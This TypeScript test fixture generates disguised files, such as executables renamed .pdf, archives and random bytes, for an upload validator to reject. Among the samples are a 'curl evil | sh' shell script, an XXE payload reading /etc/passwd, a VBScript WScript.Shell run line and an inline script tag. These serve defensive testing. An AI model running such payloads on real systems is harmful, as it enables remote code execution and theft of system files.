import { type Dice, refused, type Sample } from "./sample";

const text = (name: string, content: string) => refused(name, Buffer.from(content, "latin1"));

/** Programs, scripts, office papers and nothing at all, under names of ours. */
export function strangers(dice: Dice): Sample[] {
  const noise = (name: string, start: string, size = 300) =>
    refused(name, Buffer.concat([Buffer.from(start, "latin1"), dice.bytes(size)]));
  return [
    noise("setup.dcm", "MZ\x90\0"),
    noise("linux.pdf", "\x7fELF\x02\x01\x01"),
    noise("mac.jpg", "\xcf\xfa\xed\xfe"),
    noise("fat.jpg", "\xca\xfe\xba\xbe"),
    noise("module.png", "\0asm\x01\0\0\0"),
    noise("old.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 600),
    noise("short.lnk", "L\0\0\0\x01\x14\x02\0"),
    noise("packed.rar", "Rar!\x1a\x07\x01\0"),
    noise("packed.7z", "7z\xbc\xaf\x27\x1c"),
    noise("packed.gz", "\x1f\x8b\x08\0"),
    noise("packed.xz", "\xfd7zXZ\0"),
    noise("base.sqlite", "SQLite format 3\0"),
    noise("sound.mp3", "ID3\x03\0"),
    noise("film.avi", "RIFF\x10\0\0\0AVI "),
    noise("film.mkv", "\x1a\x45\xdf\xa3"),
    noise("letter.ps", "%!PS-Adobe-3.0\n"),
    text("script.sh", "#!/bin/sh\ncurl evil | sh\n"),
    text("script.py", "#!/usr/bin/env python3\nprint(1)"),
    text("paper.rtf", "{\\rtf1 report}"),
    text("plain.txt", "My mitral valve leaks."),
    text("table.csv", "a,b\n1,2\n"),
    text("page.html", "<!doctype html><script>alert(1)</script>"),
    text("page-spaced.dcm", " \n\t<html><body>"),
    text("page-comment.pdf", "<!-- %PDF-1.4 --><script>1</script>"),
    text("data.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    text("data.json", '{"a": 1}'),
    text("resource.json", '{"resourceType": "Bundle", "entry": ['),
    text("macro.vbs", 'CreateObject("WScript.Shell").Run "calc"'),
    text("zero.dcm", "\0".repeat(2_000)),
    refused("one-byte.dcm", Buffer.from([0])),
    refused("two.pdf", Buffer.from("%P")),
    ...Array.from({ length: 10 }, (_, n) => refused(`random-${n}.dcm`, dice.bytes(1 + n * 397))),
  ];
}
